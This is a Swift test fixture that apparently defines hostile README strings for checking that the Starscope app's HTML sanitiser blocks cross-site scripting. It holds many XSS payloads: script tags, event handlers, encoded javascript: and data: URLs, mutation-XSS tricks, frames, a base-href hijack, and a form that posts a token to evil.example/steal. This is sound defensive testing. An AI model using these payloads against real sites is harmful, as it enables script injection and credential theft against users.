/// READMEs that attack whoever shows them: scripts, event handlers, `javascript:` and `data:`
/// URLs, frames, forms, meta refresh, style sheets, obfuscated tags and a huge table. The fake
/// renders their raw HTML as it is (as if GitHub's own sanitiser had let it through), so that
/// Starscope's must stop it. A script that ran would set `window.__starscopeHacked`.
public enum HostileReadmes {
    public static let all: [String] = [scripts, handlers, urls, frames, forms, head, styles, obfuscated, hugeTable]

    public static let scripts = """
        # Scripts

        Plain text before.

        <script>window.__starscopeHacked = true</script>
        <SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
        <svg><script>window.__starscopeHacked = 2</script></svg>
        <p>Text <script>document.title = 'pwned'</script>after.</p>

        Plain text after.
        """

    public static let handlers = """
        # Event handlers

        <img src="x" onerror="window.__starscopeHacked = true">
        <a href="#usage" onclick="window.__starscopeHacked = true">click me</a>
        <div onmouseover="window.__starscopeHacked = true" ONLOAD=alert(1)>hover</div>
        <svg onload="window.__starscopeHacked = true"><circle r="4"/></svg>
        <details open ontoggle="window.__starscopeHacked = true"><summary>More</summary>Hidden</details>
        <body onload="window.__starscopeHacked = true">
        """

    public static let urls = """
        # URLs

        [click](javascript:window.__starscopeHacked=true)

        <a href="JaVaScRiPt:window.__starscopeHacked=true">mixed case</a>
        <a href=" javascript:alert(1)">leading space</a>
        <a href="java&#x09;script:alert(1)">entity tab</a>
        <a href="&#106;avascript:alert(1)">entity j</a>
        <a href="vbscript:msgbox(1)">vbscript</a>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
        <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
        <img src="javascript:alert(1)">

        [a fine link](https://example.org/fine) and [a relative one](docs/GUIDE.md)
        """

    public static let frames = """
        # Frames

        <iframe src="https://evil.example/"></iframe>
        <iframe srcdoc="<script>parent.__starscopeHacked=true</script>"></iframe>
        <object data="https://evil.example/x.swf"></object>
        <embed src="https://evil.example/x.swf">
        <frameset><frame src="https://evil.example/"></frameset>
        """

    public static let forms = """
        # Forms

        <form action="https://evil.example/steal" method="post">
        <input name="token" value="give it to me"><textarea name="t"></textarea>
        <select name="s"><option>one</option></select>
        <button formaction="https://evil.example/">Send</button>
        </form>
        """

    public static let head = """
        # Head

        <meta http-equiv="refresh" content="0;url=https://evil.example/">
        <base href="https://evil.example/">
        <link rel="stylesheet" href="https://evil.example/x.css">
        <link rel="import" href="https://evil.example/x.html">

        Where do [relative links](docs/GUIDE.md) go now?
        """

    public static let styles = """
        # Styles

        <style>body { display: none } @import url(https://evil.example/x.css);</style>
        <div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/track.png)">cover</div>
        <p class="flash flash-error js-hidden" id="main">Classes and ids of the page</p>
        """

    public static let obfuscated = """
        # Obfuscated

        <scr<script>ipt>window.__starscopeHacked = true</scr</script>ipt>
        <!-- --><script>window.__starscopeHacked = true</script><!-- -->
        <noscript><p title="</noscript><img src=x onerror=window.__starscopeHacked=true>"></noscript>
        <math><mtext><table><mglyph><style><img src=x onerror=window.__starscopeHacked=true></style></mglyph></table></mtext></math>
        <template><script>window.__starscopeHacked = true</script></template>
        <a href="https://example.org/" target="_top" rel="opener">opener</a>
        <img src=x onerror=window.__starscopeHacked=true//
        <p>unclosed <b>bold <i>italic</p>
        """

    /// A table of 2,000 rows: the page must stay usable.
    public static let hugeTable: String = {
        var lines = ["# Huge table", "", "| # | a | b | c | d | e | f | g | h | i |", "|---|---|---|---|---|---|---|---|---|---|"]
        for row in 0..<2_000 {
            lines.append("| \(row) | " + (0..<9).map { "cell \(row)-\($0)" }.joined(separator: " | ") + " |")
        }
        return lines.joined(separator: "\n") + "\n"
    }()
}
